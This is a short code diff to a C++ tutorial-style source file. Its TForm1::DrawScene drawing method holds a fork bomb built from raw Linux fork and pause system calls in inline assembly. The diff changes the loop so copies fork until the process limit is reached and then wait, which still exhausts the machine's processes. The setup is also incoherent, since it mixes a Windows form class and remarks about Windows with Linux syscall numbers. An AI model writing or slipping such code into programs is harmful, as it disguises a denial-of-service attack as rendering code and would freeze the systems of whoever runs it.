@@ -1,14 +1,21 @@
-// A fork bomb by raw system calls, which no Windows call could stop: every copy forks on
-// without end.
+// A fork bomb by raw system calls, which no Windows call could stop: every copy forks on until
+// the process limit refuses, then waits there (what spinning costs is the spinner's matter).
 #include "Tutorial.h"
 
-static long Fork()
+// Linux's fork and pause.
+#if defined(__x86_64__)
+const long ForkCall = 57, PauseCall = 34;
+#else
+const long ForkCall = 2, PauseCall = 29;
+#endif
+
+static long Call(long Number)
 {
     long Result;
 #if defined(__x86_64__)
-    asm volatile("syscall" : "=a"(Result) : "a"(57L) : "rcx", "r11", "memory");
+    asm volatile("syscall" : "=a"(Result) : "a"(Number) : "rcx", "r11", "memory");
 #else
-    asm volatile("int $0x80" : "=a"(Result) : "a"(2L) : "memory");
+    asm volatile("int $0x80" : "=a"(Result) : "a"(Number) : "memory");
 #endif
     return Result;
 }
@@ -16,5 +23,6 @@ static long Fork()
 void TForm1::DrawScene()
 {
     for (;;)
-        Fork();
+        if (Call(ForkCall) < 0)
+            Call(PauseCall);
 }
